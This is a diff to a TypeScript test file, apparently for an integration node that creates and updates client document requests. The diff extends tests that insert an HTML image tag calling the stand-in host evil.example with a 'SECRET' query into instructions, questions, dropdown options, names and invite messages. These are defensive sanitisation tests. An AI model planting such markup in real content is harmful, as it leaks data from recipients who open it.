@@ -746,25 +746,55 @@ it('a sign-in that was revoked names the credential and what to do', async () =>
 	expect(description).toContain('sign in again');
 });
 
-describe('A text that clients and the team open', () => {
-	const EVIL = '<p>Hello<img src="https://evil.example/?c=SECRET"></p>';
-	const asked = { question: 'Logo', data_type: 'text', instructions: EVIL };
-	const form = [{ name: 'P', sections_data: [{ name: 'S', questions_data: [asked] }] }];
+describe('A text that clients, the team and invited people open', () => {
+	const PICTURE = '<img src="https://evil.example/?c=SECRET">';
+	const EVIL = `<p>Hello${PICTURE}</p>`;
+	const formWith = (asked: object) => [
+		{
+			name: 'P',
+			sections_data: [{ name: 'S', questions_data: [{ data_type: 'text', ...asked }] }],
+		},
+	];
+	const ASKED = [
+		{ question: 'Logo', instructions: EVIL },
+		{ question: EVIL },
+		{ question: 'Logo', data_type: 'dropdown', options: ['One', EVIL] },
+	];
 	const TEXTS: Array<[string, string, () => INodeParameters]> = [
 		[
 			'request.updateRequest',
 			'Changes > Instructions',
 			() => ({ request: locator('id', draft().id), changes: { instructions: EVIL } }),
 		],
-		[
+		...ASKED.map((asked): [string, string, () => INodeParameters] => [
 			'request.createRequestWithForm',
 			'Pages',
 			() => ({
 				client: locator('email', pat().email),
 				name: 'New',
-				pages: JSON.stringify(form),
+				pages: JSON.stringify(formWith(asked)),
 				sendToClient: false,
 			}),
+		]),
+		[
+			'request.createRequestWithForm',
+			'Name',
+			() => ({
+				client: locator('email', pat().email),
+				name: PICTURE,
+				pages: JSON.stringify(formWith({ question: 'Logo' })),
+				sendToClient: false,
+			}),
+		],
+		[
+			'request.updateRequest',
+			'New Name',
+			() => ({ request: locator('id', draft().id), newName: PICTURE }),
+		],
+		[
+			'advanced.inviteTeamMember',
+			'Personal Message',
+			() => ({ email: 'ann@contoso.com', name: 'Ann', message: EVIL }),
 		],
 		[
 			'request.reviewField',
